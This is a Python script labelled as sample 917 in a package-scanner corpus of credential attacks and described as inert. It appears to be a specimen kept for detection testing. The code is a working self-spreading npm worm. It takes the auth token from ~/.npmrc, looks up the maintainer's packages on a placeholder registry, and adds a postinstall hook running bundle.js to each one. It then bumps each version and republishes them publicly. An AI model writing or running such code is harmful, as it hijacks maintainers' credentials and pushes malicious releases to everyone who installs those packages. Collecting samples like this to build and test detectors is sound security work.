# pkgguard corpus 917 (credentials), modelled on [empirical]; inert, never run.
import json
import os
import re
import shutil
import subprocess
import tarfile
import tempfile
import urllib.request

npmrc = os.path.join(os.path.expanduser("~"), ".npmrc")
token = ""
if os.path.exists(npmrc):
    with open(npmrc, encoding="utf-8") as fh:
        found = re.search(r"_authToken=(\S+)", fh.read())
        token = found.group(1) if found else ""

npm = shutil.which("npm")
if token and npm:
    req = urllib.request.Request("https://npm-registry.example/-/whoami", headers={"Authorization": f"Bearer {token}"})
    user = json.load(urllib.request.urlopen(req, timeout=8)).get("username", "")
    search = urllib.request.urlopen(f"https://npm-registry.example/-/v1/search?text=maintainer:{user}&size=20", timeout=8)
    for hit in json.load(search).get("objects", []):
        name = hit["package"]["name"]
        work = tempfile.mkdtemp()
        subprocess.run([npm, "pack", name], cwd=work, capture_output=True)
        for archive in os.listdir(work):
            with tarfile.open(os.path.join(work, archive)) as tar:
                tar.extractall(work, filter="data")
        manifest_path = os.path.join(work, "package", "package.json")
        with open(manifest_path, encoding="utf-8") as fh:
            manifest = json.load(fh)
        major, minor, patch = (manifest["version"].split("-")[0].split(".") + ["0", "0"])[:3]
        manifest["version"] = f"{major}.{minor}.{int(patch) + 1}"
        manifest.setdefault("scripts", {})["postinstall"] = "node bundle.js"
        with open(manifest_path, "w", encoding="utf-8") as fh:
            json.dump(manifest, fh)
        subprocess.run([npm, "publish", "--access", "public"], cwd=os.path.join(work, "package"), capture_output=True)
